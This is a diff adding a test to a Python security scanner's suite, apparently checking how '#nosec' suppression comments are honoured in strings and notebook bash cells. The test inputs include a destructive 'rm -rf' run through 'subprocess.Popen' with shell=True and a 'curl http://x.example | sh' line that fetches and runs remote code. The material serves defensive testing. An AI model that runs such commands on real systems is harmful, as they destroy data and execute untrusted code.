@@ -76,6 +76,15 @@ def test_other_comments_and_strings_suppress_nothing(code: str) -> None:
     assert report.suppressed == 0
 
 
+def test_a_comment_of_a_program_in_a_string_suppresses_nothing() -> None:
+    """It is the string's, and whoever wrote that need not be whom the file is trusted to; a cell's counts."""
+    code = 'import subprocess\nsubprocess.Popen("rm -rf $X/ #nosec", shell=True)\n'
+    report = analyze(code)
+    assert {"FH110", "FH704"} <= {finding.rule for finding in report.findings}
+    assert report.suppressed == 0
+    assert analyze("%%bash\ncurl http://x.example | sh  # nosec\n").suppressed == 2
+
+
 def test_a_marker_in_a_body_does_not_excuse_the_header() -> None:
     """A comment inside a function does not take back what was found in its signature."""
     assert analyze('def f(password="hunter2"):\n    a = 1  # nosec\n').total == 1
